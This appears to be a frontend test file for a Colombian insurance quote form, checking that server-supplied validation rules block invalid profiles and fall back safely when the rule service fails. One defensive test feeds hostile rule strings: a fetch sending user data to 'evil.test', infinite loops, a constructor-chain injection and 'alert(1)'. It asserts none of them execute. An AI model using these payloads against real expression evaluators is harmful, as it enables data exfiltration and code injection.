import { screen, waitFor } from '@testing-library/react';
import { delay, http, HttpResponse } from 'msw';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { perfilIngreso } from '@/features/profile/profile-schemas';
import { inLanguage } from './profile-rules';
import { useProfileStore } from '@/features/profile/profile.store';
import { markets } from '@/lib/markets';
import { localRules } from '@/lib/markets/profile-rules';
import { openProfileForm, seededForm, serveProfileForm, type SentProfile } from '@/lib/testing/profile-launcher';
import { server } from '@/lib/testing/msw-server';

const colombia = markets.find(({ brand, currency }) => brand === 'QueSeguro' && currency === 'COP')!;
const NO_EPS = 'No hay opciones de seguros o planes de salud disponibles para personas sin EPS';
const TOO_FEW = 'Tu empresa debe tener un minimo de 10 empleados para cotizar un seguro colectivo';

const seeded = (productType: string) => inLanguage(localRules(colombia.id, productType), 'es');

let sent: SentProfile[] = [];
let queries: URLSearchParams[] = [];

async function openForm(productType: string, answer: (() => Response | Promise<Response>) | object[]) {
  sent = serveProfileForm(seededForm(colombia.id, productType));
  server.use(
    http.get('*/api/profile-form/rules', ({ request }) => {
      queries.push(new URL(request.url).searchParams);
      return Array.isArray(answer) ? HttpResponse.json({ rules: answer }) : answer();
    }),
  );
  const { user, form, compare } = await openProfileForm(colombia, productType);
  return { user, form, compare, send: () => user.click(compare) };
}

const rule = (valid: string, message: string | null = null) => ({ name: 'sample', valid, message });

beforeEach(() => {
  queries = [];
  useProfileStore.getState().clear();
  document.documentElement.dataset.country = String(colombia.id);
});
afterEach(() => {
  delete document.documentElement.dataset.country;
  document.documentElement.lang = '';
});

describe('a rule of a product type', () => {
  it.each([
    ['the words it brings', 'Solo desde 30 años', 'Solo desde 30 años'],
    ["'Perfil inválido' when it brings none", null, 'Perfil inválido'],
  ])('is asked for by product, refuses with %s, blocks the submit [V-04] [V-05] [X-10]', async (_, words, message) => {
    const { user, form, compare, send } = await openForm('VIDA', [
      rule('perfil.cotizante.all(p, p.edad >= 30)', words),
    ]);
    expect(await form.findByText(message)).toBeVisible();
    expect(queries.map((query) => query.get('productTypeName'))).toEqual(['VIDA']);
    await send();
    await user.keyboard('{Enter}');
    expect(sent).toEqual([]);
    const age = form.getByRole('spinbutton', { name: /^Edad/ });
    await user.clear(age);
    await user.type(age, '30');
    await waitFor(() => expect(form.queryByText(message)).toBeNull());
    expect(compare).toBeEnabled();
    await send();
    await waitFor(() => expect(sent).toHaveLength(1));
  });

  it('can only be looked at by the back end: its refusal is said in its words [V-05]', async () => {
    const { form, send } = await openForm('VIDA', []);
    server.use(
      http.post('*/api/profile-form/data', () =>
        HttpResponse.json(
          {
            error: {
              code: 'INVALID_DATA',
              message: 'Perfil inválido',
              fields: { profile: 'Perfil inválido' },
              requestId: 'r',
            },
          },
          { status: 400 },
        ),
      ),
    );
    await send();
    expect(await form.findByText('Perfil inválido')).toBeVisible();
  });
});

describe('the rules of Colombia', () => {
  it('refuse who has no EPS, and take who has one [V-01]', async () => {
    const { user, form, compare, send } = await openForm('EPS', seeded('EPS'));
    const eps = form.getByRole('combobox', { name: /EPS/ });
    await user.selectOptions(eps, 'No tengo');
    expect(await form.findByText(NO_EPS)).toBeVisible();
    await send();
    expect(sent).toEqual([]);
    await user.selectOptions(eps, eps.querySelectorAll('option')[1]!);
    await waitFor(() => expect(form.queryByText(NO_EPS)).toBeNull());
    expect(compare).toBeEnabled();
  });

  it('refuse 9 employees, counted together, and take 10 [V-02]', async () => {
    const { user, form, send } = await openForm('COLECTIVO', seeded('COLECTIVO'));
    await user.type(form.getByRole('textbox', { name: 'Cantidad de empleados (Grupo 1)' }), '9');
    expect(await form.findByText(TOO_FEW)).toBeVisible();
    await send();
    expect(sent).toEqual([]);
    await user.click(form.getByRole('button', { name: 'Sumar otro grupo' }));
    await user.type(form.getAllByRole('textbox', { name: /^Cantidad de empleados/ })[1]!, '1');
    await waitFor(() => expect(form.queryByText(TOO_FEW)).toBeNull());
    await send();
    await waitFor(() => expect(sent).toMatchObject([{ profile: { colectivo: { cantidadempleados: 10 } } }]));
  });
});

describe('who is insured with dependants', () => {
  const PAYER = 'Quien contrata debe tener al menos 18 años: los menores se aseguran junto a un adulto';
  const PARTNER = 'Tu cónyuge o pareja debe tener al menos 18 años: revisa su edad';
  const age = async (user: Awaited<ReturnType<typeof openForm>>['user'], field: HTMLElement, years: string) => {
    await user.clear(field);
    await user.type(field, years);
    await user.tab();
  };

  it('is an adult who takes the insurance out, with an adult partner, and children of any age', async () => {
    const { user, form, compare, send } = await openForm('POLIZA', seeded('POLIZA'));
    const ages = () => form.getAllByRole('spinbutton', { name: /^Edad/ });
    await age(user, ages()[0]!, '17');
    expect(await form.findByText(PAYER)).toBeVisible();
    await age(user, ages()[0]!, '18');
    await waitFor(() => expect(form.queryByText(PAYER)).toBeNull());
    await user.click(form.getByRole('switch', { name: 'Me aseguro con mi pareja' }));
    await age(user, ages()[1]!, '8');
    expect(await form.findByText(PARTNER)).toBeVisible();
    await age(user, ages()[1]!, '18');
    await waitFor(() => expect(form.queryByText(PARTNER)).toBeNull());
    await user.click(form.getByRole('button', { name: 'Agregar Beneficiario' }));
    await age(user, ages()[2]!, '0');
    expect(compare).toBeEnabled();
    await send();
    await waitFor(() =>
      expect(sent).toMatchObject([{ profile: { cotizante: [{ edad: 18 }, { edad: 18 }], cargas: [{ edad: 0 }] } }]),
    );
  });

  it('may have been entered otherwise before: the form opens with all of it and says what is wrong', async () => {
    const known = { ingresodatos: true, cotizante: [{ edad: 10 }], cargas: [{ edad: 8, parentesco: 'Cónyuge' }] };
    useProfileStore.getState().save('persons', perfilIngreso.parse(known), null);
    const { user, form, compare } = await openForm('POLIZA', seeded('POLIZA'));
    expect(await form.findByText(PAYER)).toBeVisible();
    expect(form.getByText(PARTNER)).toBeVisible();
    expect(compare).toBeDisabled();
    expect(compare).toHaveAccessibleDescription(`${PAYER} ${PARTNER}`);
    await age(user, form.getByRole('spinbutton', { name: 'Edad' }), '30');
    await waitFor(() => expect(form.queryByText(PAYER)).toBeNull());
    await user.click(form.getByRole('button', { name: 'Editar Beneficiarios' }));
    await user.selectOptions(form.getByRole('combobox', { name: 'Parentesco (Beneficiario 1)' }), 'Hijo/Hija');
    await waitFor(() => expect(form.queryByText(PARTNER)).toBeNull());
    expect(compare).toBeEnabled();
    await user.click(form.getByRole('button', { name: 'Cerrar' }));
    expect(screen.queryByRole('dialog')).toBeNull();
  });
});

describe('rules that mean harm, or do not come', () => {
  it('run nothing: the page lives, no request leaves, the visitor goes on [V-06] [E-37]', async () => {
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => undefined);
    const requests: string[] = [];
    server.events.on('request:start', ({ request }) => void requests.push(new URL(request.url).pathname));
    const { send } = await openForm('VIDA', [
      rule('fetch("https://evil.test/?" + perfil.cotizante[0].sexo) == null'),
      rule('while(true){}'),
      rule('(function(){ for(;;){} })()'),
      rule('window.pwned=1'),
      rule('perfil.constructor.constructor("window.pwned=1")()'),
      rule(`${'perfil.cotizante.all(a, '.repeat(12)}true${')'.repeat(12)}`),
      rule('"neither"'),
    ]);
    await send();
    await waitFor(() => expect(sent).toHaveLength(1));
    expect('pwned' in window).toBe(false);
    expect(requests.filter((path) => !/^\/(api\/profile-form|i18n)\//.test(path))).toEqual([]);
    expect(warn.mock.calls.length).toBeGreaterThanOrEqual(7);
    const lines = warn.mock.calls.map(([line]) => line);
    expect(lines).toEqual([...new Set(lines)]);
    server.events.removeAllListeners();
  });

  it.each<[string, () => Response | Promise<Response>]>([
    ['answer 500', () => HttpResponse.json({}, { status: 500 })],
    ['cannot be reached', () => HttpResponse.error()],
    ['are no rules', () => HttpResponse.json({ rules: 'alert(1)' })],
    [
      'never come',
      async () => {
        await delay('infinite');
        return HttpResponse.json({});
      },
    ],
  ])('give way to the rules of the market when they %s, and lock nobody out [V-06]', async (_, answer) => {
    const { user, form, send } = await openForm('COLECTIVO', answer);
    const count = form.getByRole('textbox', { name: 'Cantidad de empleados (Grupo 1)' });
    await user.type(count, '9');
    expect(await form.findByText(TOO_FEW)).toBeVisible();
    await send();
    expect(sent).toEqual([]);
    await user.type(count, '90');
    await waitFor(() => expect(form.queryByText(TOO_FEW)).toBeNull());
    await send();
    await waitFor(() => expect(sent).toMatchObject([{ profile: { colectivo: { cantidadempleados: 90 } } }]));
  });
});
